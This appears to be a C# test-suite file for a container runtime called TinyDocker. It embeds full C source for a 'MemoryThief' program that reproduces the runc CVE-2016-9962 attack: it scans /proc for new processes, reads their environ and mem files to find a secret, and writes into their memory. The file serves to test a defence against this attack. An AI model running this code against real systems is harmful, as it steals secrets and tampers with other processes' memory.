namespace TinyDocker.Security.Tests.Programs;

/// <summary>
/// A container process that watches for every new process in its PID namespace and tries to
/// read a secret out of it through /proc/PID/environ and /proc/PID/mem (and to write into its
/// memory), runc CVE-2016-9962's way. It runs until its stdin ends, then prints one line per
/// hit ("FOUND environ PID", "FOUND mem PID", "WROTE PID") and a summary
/// ("seen N environ-opened E mem-opened M mem-refused R"). With `self-test` it first forks a dumpable child
/// of its own holding the secret, as the counter-proof that the same reads work where allowed.
/// </summary>
internal static class MemoryThief
{
    public const string Source = """
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <errno.h>
        #include <fcntl.h>
        #include <poll.h>
        #include <signal.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/wait.h>
        #include <unistd.h>

        static const char *secret;
        static unsigned char seen[1 << 22];
        static int nseen, nenv, nmem, nrefused;
        static char buf[1 << 16];

        static int contains(const char *data, long n) {
            size_t s = strlen(secret);
            for (long i = 0; i + (long)s <= n; i++)
                if (memcmp(data + i, secret, s) == 0) return 1;
            return 0;
        }

        static void attack(int pid) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) {
                nenv++;
                long n = read(fd, buf, sizeof buf);
                if (n > 0 && contains(buf, n)) printf("FOUND environ %d\n", pid);
                close(fd);
            }
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            int mem = open(path, O_RDWR);
            if (mem < 0) { if (errno == EACCES || errno == EPERM) nrefused++; return; }
            nmem++;
            snprintf(path, sizeof path, "/proc/%d/maps", pid);
            FILE *maps = fopen(path, "r");
            char line[512];
            while (maps && fgets(line, sizeof line, maps)) {
                unsigned long lo, hi;
                char perms[5];
                if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[0] != 'r') continue;
                for (unsigned long a = lo; a < hi; a += sizeof buf) {
                    long n = pread(mem, buf, sizeof buf, (off_t)a);
                    if (n <= 0) break;
                    if (contains(buf, n)) {
                        printf("FOUND mem %d\n", pid);
                        /* Write the byte that is there back: proves write access, changes nothing. */
                        if (pwrite(mem, buf, 1, (off_t)a) == 1) printf("WROTE %d\n", pid);
                        a = hi;
                    }
                }
            }
            if (maps) fclose(maps);
            close(mem);
        }

        int main(int argc, char **argv) {
            secret = argv[1];
            setvbuf(stdout, NULL, _IOLBF, 0);
            int self = getpid();
            if (argc > 2 && strcmp(argv[2], "self-test") == 0) {
                int child = fork();
                if (child == 0) {
                    char var[256];
                    snprintf(var, sizeof var, "HELD=%s", secret);
                    char *env[] = { var, NULL };
                    char *args[] = { "/proc/self/exe", "x", "hold", NULL };
                    execve("/proc/self/exe", args, env);
                    _exit(1);
                }
                usleep(200000);
                attack(child);
                kill(child, SIGKILL);
                waitpid(child, NULL, 0);
            }
            if (argc > 2 && strcmp(argv[2], "hold") == 0) { pause(); return 0; }
            printf("ready\n");
            for (;;) {
                struct pollfd in = { 0, POLLIN, 0 };
                if (poll(&in, 1, 0) > 0 && read(0, buf, 1) <= 0) break;
                DIR *proc = opendir("/proc");
                struct dirent *e;
                while (proc && (e = readdir(proc))) {
                    int pid = atoi(e->d_name);
                    if (pid <= 1 || pid == self || pid >= (int)sizeof seen || seen[pid]) continue;
                    seen[pid] = 1;
                    nseen++;
                    attack(pid);
                }
                if (proc) closedir(proc);
            }
            printf("seen %d environ-opened %d mem-opened %d mem-refused %d\n", nseen, nenv, nmem, nrefused);
            return 0;
        }
        """;
}
